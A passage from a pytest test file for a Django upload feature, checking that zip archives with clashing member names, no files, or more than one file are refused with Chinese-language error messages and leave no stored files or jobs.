    """Members land flat in one folder, so two with the same file name in different folders
    (a/classes.csv, b/classes.csv) are refused, naming both, instead of one overwriting the other;
    so are the .csv and the .xlsx of one package file, and a refused upload leaves no file behind."""
    settings.MEDIA_ROOT = tmp_path / "media"
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of({"a/classes.csv": b"first", "b/classes.csv": b"second"})], allowed=PACKAGE_NAMES)
    assert "“a/classes.csv”与“b/classes.csv”" in refused.value.message
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of({"classes.csv": b"c"}), upload("classes.xlsx", b"x")], allowed=PACKAGE_NAMES)
    assert "“classes.csv”与“classes.xlsx”都是classes.csv" in refused.value.message
    with pytest.raises(PeixunError) as refused:
        save_uploads([zip_of({"x/death.csv": b"1", "y/DEATH.csv": b"2"})])
    assert refused.value.message.startswith("文件重名：“x/death.csv”与“y/DEATH.csv”")
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]


def test_an_empty_zip_as_a_registry_file_gets_a_message(client, world, tmp_path, settings):
    """A registry (or history) upload must hold exactly one file: a .zip with no file in it (or only
    folders) answers the form again with a message, not a 500, and starts no job."""
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(world.region_admin)
    response = client.post(
        reverse("exchange:home"),
        {"which": "registry", "registry-kind": "death", "registry-file": zip_of({"folder/": b""})},
    )
    assert response.status_code == 200
    assert "压缩包内没有文件" in response.content.decode()
    assert not Job.objects.exists()


@pytest.mark.parametrize("which", ["registry", "history"])
def test_a_zip_of_two_files_as_a_registry_or_history_file_is_refused(
    client, world, tmp_path, settings, which
):
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(world.region_admin)
    archive = zip_of({"death.csv": b"a", "death_2.csv": b"b"})
    response = client.post(
        reverse("exchange:home"), {"which": which, f"{which}-kind": "death", f"{which}-file": archive}
    )
    assert response.status_code == 200
    assert "一次只能导入一个文件，压缩包内有2个：death.csv、death_2.csv" in response.content.decode()
    assert not Job.objects.exists()
    assert not [p for p in tmp_path.rglob("*") if p.is_file()]
